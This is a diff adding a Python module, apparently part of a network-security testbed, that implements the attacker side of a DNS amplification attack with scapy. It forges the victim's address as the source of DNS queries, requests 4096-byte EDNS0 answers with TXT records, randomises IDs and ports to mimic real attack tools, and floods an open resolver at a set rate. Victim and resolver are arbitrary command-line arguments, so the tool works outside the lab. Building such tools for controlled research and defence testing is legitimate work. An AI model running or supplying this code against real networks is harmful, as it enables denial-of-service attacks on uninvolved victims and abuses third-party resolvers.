@@ -1,0 +1,75 @@
+"""Spoofed DNS queries with scapy: the attacker's half of a DNS amplification.
+
+Run *inside the attacker namespace* (the lab starts it with `ip netns exec`):
+
+    python -m necoma.testbed.lab.spoof --victim 10.77.2.10 --resolver 10.77.3.53 \
+        --qname amp.lab.necoma.example --rate 200 --seconds 5
+
+Each query carries the victim's address as its source and an EDNS0 OPT record
+offering a 4096-byte buffer, so the open resolver sends its whole multi-kB TXT
+answer over UDP, fragmented, to the victim, which never asked. Query IDs and
+source ports vary as real attack tools vary them. Prints one JSON line with
+what was sent.
+"""
+from __future__ import annotations
+
+import argparse
+import json
+import random
+import sys
+import time
+
+#: qtypes the lab's attacks use. Unbound answers ANY on local data with NODATA, so TXT is the default.
+QTYPES = {"TXT": 16, "ANY": 255}
+
+
+def build_queries(victim: str, resolver: str, qname: str, qtype: int, count: int, seed: int) -> list:
+    from scapy.layers.dns import DNS, DNSQR, DNSRROPT
+    from scapy.layers.inet import IP, UDP
+
+    rng = random.Random(seed)
+    return [
+        IP(src=victim, dst=resolver, id=rng.randrange(65536))
+        / UDP(sport=rng.randrange(1024, 65536), dport=53)
+        / DNS(id=rng.randrange(65536), rd=1, qd=DNSQR(qname=qname, qtype=qtype),
+              ar=DNSRROPT(rclass=4096))  # EDNS0: "I take 4096-byte UDP answers"
+        for _ in range(count)
+    ]
+
+
+def send_spoofed(victim: str, resolver: str, qname: str, *, qtype: int = 16, rate: float = 200,
+                 seconds: float = 5, seed: int = 1) -> dict:
+    """Send `rate` spoofed queries per second for `seconds`; return a summary."""
+    from scapy.config import conf
+    from scapy.sendrecv import send
+
+    count = max(1, int(rate * seconds))
+    packets = build_queries(victim, resolver, qname, qtype, count, seed)
+    conf.verb = 0
+    start = time.time()
+    # One raw socket for all packets (scapy's send reuses it for a list); `inter`
+    # paces them. The kernel accepts the forged source on an IP_HDRINCL socket.
+    send(packets, inter=1.0 / rate, verbose=False)
+    end = time.time()
+    return {"sent": count, "qname": qname, "qtype": qtype, "src": victim, "dst": resolver,
+            "start": start, "end": end}
+
+
+def main(argv: list[str] | None = None) -> int:
+    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
+    ap.add_argument("--victim", required=True, help="spoofed source address")
+    ap.add_argument("--resolver", required=True, help="open resolver to abuse")
+    ap.add_argument("--qname", required=True)
+    ap.add_argument("--qtype", default="TXT", choices=sorted(QTYPES))
+    ap.add_argument("--rate", type=float, default=200, help="queries per second")
+    ap.add_argument("--seconds", type=float, default=5)
+    ap.add_argument("--seed", type=int, default=1)
+    args = ap.parse_args(argv)
+    summary = send_spoofed(args.victim, args.resolver, args.qname, qtype=QTYPES[args.qtype], rate=args.rate,
+                           seconds=args.seconds, seed=args.seed)
+    print(json.dumps(summary), flush=True)
+    return 0
+
+
+if __name__ == "__main__":
+    sys.exit(main())
